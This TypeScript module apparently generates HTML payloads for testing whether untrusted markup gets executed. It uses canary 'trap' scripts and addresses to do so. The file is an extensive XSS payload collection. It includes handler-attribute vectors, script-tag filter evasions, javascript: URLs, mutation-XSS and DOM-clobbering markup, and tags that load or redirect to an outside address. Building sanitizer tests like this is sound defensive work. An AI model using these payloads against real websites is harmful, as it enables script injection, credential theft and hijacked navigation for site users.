import type { Traps } from './traps'

const HANDLERS = [
  'onerror',
  'onload',
  'onclick',
  'onmouseover',
  'onfocus',
  'onpointerenter',
  'onanimationstart',
  'ontoggle',
  'onbegin'
] as const

/** Elements that run a handler by themselves, or load what they name. */
const ELEMENTS = [
  'img src=x',
  'svg',
  'svg/onload=1',
  'body',
  'iframe src=x',
  'video src=x',
  'audio src=x',
  'input autofocus',
  'details open',
  'marquee',
  'object data=x',
  'embed src=x',
  'a href=x autofocus tabindex=1',
  'button autofocus',
  'select autofocus',
  'textarea autofocus',
  'math',
  'style',
  'link rel=stylesheet href=x',
  'custom-element'
] as const

/** Raw HTML that a page would run, load or follow if it took it for HTML. */
export function htmlPayloads(traps: Traps): string[] {
  const handlers = ELEMENTS.flatMap((element) =>
    HANDLERS.map((handler) => `<${element} ${handler}="${traps.script()}">`)
  )
  return [...handlers, ...scripts(traps), ...loads(traps), ...leaves(traps), ...mutations(traps)]
}

function scripts({ script, address }: Traps): string[] {
  return [
    `<script>${script()}</script>`,
    `<SCRIPT>${script()}</SCRIPT>`,
    `<scr<script>ipt>${script()}</scr</script>ipt>`,
    `<script >${script()}</script >`,
    `<script\n>${script()}</script\n>`,
    `<script/x>${script()}</script>`,
    `<script type=module>${script()}</script>`,
    `<script src="${address('js')}"></script>`,
    `<script src=//${address('js').replace('http://', '')}></script>`,
    `<svg><script>${script()}</script></svg>`,
    `<svg><script href="${address('js')}"/></svg>`,
    `<!--><script>${script()}</script>-->`,
    `<![CDATA[<script>${script()}</script>]]>`,
    `<?php <script>${script()}</script> ?>`,
    `</title><script>${script()}</script>`,
    `</textarea><script>${script()}</script>`,
    `"><script>${script()}</script>`,
    `'-->"><script>${script()}</script>`,
    `<script>\n\n${script()}\n\n</script>`,
    `<script>${script()}`,
    `&lt;script&gt;${script()}&lt;/script&gt;`,
    `&#60;script&#62;${script()}&#60;/script&#62;`,
    `\\<script>${script()}</script>`,
    `<iframe srcdoc="<script>parent.${script()}</script>"></iframe>`,
    `<iframe srcdoc="&lt;script&gt;parent.${script()}&lt;/script&gt;"></iframe>`,
    `<template><script>${script()}</script></template>`,
    `<noscript><p title="</noscript><img src=x onerror=${script()}>"></noscript>`,
    `<xmp><script>${script()}</script></xmp>`,
    `<plaintext><script>${script()}</script>`,
    `<object data="data:text/html,<script>${script()}</script>"></object>`,
    `<embed src="data:text/html,<script>${script()}</script>">`,
    `<form><button formaction="javascript:${script()}">x</button></form>`,
    `<isindex action="javascript:${script()}" type=image>`,
    `<a href="javascript:${script()}">x</a>`,
    `<a href="java\tscript:${script()}">x</a>`,
    `<a href=" javascript:${script()}">x</a>`,
    `<svg><a xlink:href="javascript:${script()}"><text>x</text></a></svg>`,
    `<svg><animate attributeName=href values="javascript:${script()}" /></svg>`,
    `<math href="javascript:${script()}">x</math>`,
    `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="${script()}">x</b>`,
    `<div style="width:expression(${script()})">x</div>`,
    `<img src=x:alert(1) onerror=eval(src)>`,
    `<b contenteditable onblur="${script()}">x</b>`
  ]
}

function loads({ address }: Traps): string[] {
  const attributes = [
    'src',
    'srcset',
    'poster',
    'data',
    'background',
    'href',
    'action',
    'formaction',
    'ping',
    'cite'
  ] as const
  const tags = [
    'img',
    'video',
    'source',
    'track',
    'link',
    'input type=image',
    'body',
    'image',
    'object',
    'frame'
  ] as const
  const direct = tags.flatMap((tag) => attributes.map((attribute) => `<${tag} ${attribute}="${address()}">`))
  return [
    ...direct,
    `<link rel=stylesheet href="${address('css')}">`,
    `<link rel=prefetch href="${address()}">`,
    `<link rel=preconnect href="${address()}">`,
    `<link rel=dns-prefetch href="${address()}">`,
    `<link rel=modulepreload href="${address('js')}">`,
    `<link rel=icon href="${address('ico')}">`,
    `<link rel=manifest href="${address('json')}">`,
    `<style>@import "${address('css')}";</style>`,
    `<style>body{background:url(${address()})}</style>`,
    `<style>@font-face{font-family:x;src:url(${address('woff2')})}*{font-family:x}</style>`,
    `<p style="background:url('${address()}')">x</p>`,
    `<p style="list-style-image:url(${address()})">x</p>`,
    `<table background="${address()}"><tr><td background="${address()}">x</table>`,
    `<picture><source srcset="${address()} 2x"><img src="${address()}"></picture>`,
    `<svg><image href="${address()}" /></svg>`,
    `<svg><use href="${address('svg')}#x" /></svg>`,
    `<svg><filter><feImage href="${address()}" /></filter></svg>`,
    `<video><source src="${address('mp4')}"></video>`,
    `<audio autoplay src="${address('mp3')}"></audio>`,
    `<applet code="${address('class')}"></applet>`,
    `<portal src="${address('html')}"></portal>`,
    `<fencedframe src="${address('html')}"></fencedframe>`,
    `<webview src="${address('html')}"></webview>`
  ]
}

function leaves({ address }: Traps): string[] {
  return [
    `<meta http-equiv=refresh content="0;url=${address('html')}">`,
    `<META HTTP-EQUIV="Refresh" CONTENT="0; URL=${address('html')}">`,
    `<base href="${address('')}/"><a href="x">x</a>`,
    `<base target=_top>`,
    `<form action="${address('html')}"><input autofocus type=submit></form>`,
    `<form id=f action="${address('html')}"></form><button form=f>x</button>`,
    `<iframe src="${address('html')}"></iframe>`,
    `<iframe sandbox="allow-scripts allow-top-navigation" src="${address('html')}"></iframe>`,
    `<frameset><frame src="${address('html')}"></frameset>`,
    `<a href="${address('html')}" target=_blank>x</a>`,
    `<a href="${address('html')}" download>x</a>`,
    `<a href="${address('html')}" ping="${address()}">x</a>`,
    `<map name=m><area shape=default href="${address('html')}"></map><img usemap=#m>`,
    `<dialog open><form method=dialog action="${address('html')}"></form></dialog>`,
    `<a id=streamscope><a id=streamscope name=invoke href="${address('html')}">`,
    `<form id=root><input name=children></form>`,
    `<img name=querySelector><img name=createElement>`
  ]
}

/** Markup that turns into other markup when it is parsed twice. */
function mutations({ script }: Traps): string[] {
  const inner = () => `<img src=x onerror=${script()}>`
  return [
    `<svg></p><style><a id="</style>${inner()}">`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${inner()}">`,
    `<math><mtext><table><mglyph><style><math href="</style>${inner()}">`,
    `<form><math><mtext></form><form><mglyph><style></math>${inner()}`,
    `<svg><foreignObject><p>${inner()}</p></foreignObject></svg>`,
    `<svg><desc><noscript></desc>${inner()}`,
    `<listing>&lt;img src=x onerror=${script()}&gt;</listing>`,
    `<p id="\`${inner()}">`,
    `<a title="</a>${inner()}">`,
    `<select><template>${inner()}</template></select>`,
    `<table><td>${inner()}</table>`,
    `<b><i><u>${inner()}`,
    `<${'b><'.repeat(60)}b>${inner()}`,
    `<div\u0000>${inner()}</div>`,
    `<d\u200biv>${inner()}</div>`,
    `\u202e${inner()}\u202c`,
    `<IMG """>${inner()}">`,
    `<<img src=x onerror=${script()}//<`,
    `<img src="x\`onerror=${script()}\`">`,
    `<img/src=x/onerror=${script()}>`
  ]
}
